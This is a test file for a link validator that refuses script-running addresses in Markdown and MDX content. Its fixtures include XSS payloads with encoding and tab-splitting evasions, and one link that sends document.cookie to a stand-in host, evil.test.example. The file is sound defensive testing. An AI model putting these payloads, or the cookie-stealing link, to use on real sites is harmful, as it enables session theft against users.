/** Links that run script: refused in Markdown and MDX bodies however they are written, with their lines. */
import { describe, expect, it } from 'vitest';
import { isUnsafeAddress, unsafeLinks } from '../../src/engine/link-protocols.ts';
import { check, findings, validProgram } from '../helpers/program.ts';

describe('an address that runs script', () => {
  it.for([
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    ' \u0001javascript:alert(1)',
    'java\tscr\nipt:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
  ])('refuses %j', (address) => {
    expect(isUnsafeAddress(address)).toBe(true);
  });

  it.for([
    'https://example.org/javascript:x',
    '/documents/report.pdf',
    'mailto:security@test.example',
    '#top',
    'notjavascript:x',
  ])('lets %j through', (address) => {
    expect(isUnsafeAddress(address)).toBe(false);
  });

  it('lets a raster image be a data: address, but not an SVG or a link', () => {
    expect(isUnsafeAddress('data:image/png;base64,iVBORw0KGgo=', true)).toBe(false);
    expect(isUnsafeAddress('data:image/svg+xml,<svg onload=alert(1)>', true)).toBe(true);
    expect(isUnsafeAddress('data:image/png;base64,iVBORw0KGgo=', false)).toBe(true);
  });
});

describe('unsafe links in a body', () => {
  it('finds them in MDX links, references, images and JSX attributes, entities decoded, each on its line', () => {
    const body = [
      '[click](javascript:alert(1))',
      '',
      '[encoded](jav&#97;script&#58;alert(2))',
      '',
      '![x](data:image/svg+xml,<svg/onload=alert(3)>)',
      '',
      '<a href="vbscript:msgbox(4)">old</a>',
      '',
      '[ref]: data:text/html,hi',
      '',
      '[fine](https://test.example) ![pixel](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    ].join('\n');
    expect(unsafeLinks(body, 10, 'content/trust/overview.mdx').map((link) => [link.line, link.where])).toEqual([
      [10, 'a link'],
      [12, 'a link'],
      [14, 'an image'],
      [16, '`href` of `<a>`'],
      [18, 'a link definition'],
    ]);
  });

  it('finds one split by a tab inside a quoted attribute, which a browser joins again', () => {
    const body = '<a href="javas\tcript:alert(1)">here</a>\n';
    expect(unsafeLinks(body, 3, 'content/trust/overview.mdx').map((link) => link.line)).toEqual([3]);
  });

  it('finds them in the raw HTML of a Markdown body, character references and all', () => {
    const body = 'Text <a href="java&#x09;script&colon;alert(1)">here</a>.\n';
    expect(unsafeLinks(body, 5, 'content/trust/nda/v1.md')).toEqual([
      { line: 5, where: '`href` of an HTML element', address: 'java script:alert(1)' },
    ]);
  });

  it('is an error of the document, with the address shortened', () => {
    const files = {
      ...validProgram(),
      'content/trust/overview.mdx': `---\ntitle: Overview\nsummary: s\n---\n\nSee [our report](javascript:fetch('https://evil.test.example/'+document.cookie+'/'+location.href)).\n`,
    };
    const [finding] = findings(check(files), 'TB010');
    expect(finding).toMatchObject({ severity: 'error', file: 'content/trust/overview.mdx', line: 6 });
    expect(finding!.message).toMatch(
      /^a link goes to "javascript:fetch\('https:\/\/evil\.test\.exa…", which runs script/,
    );
  });
});
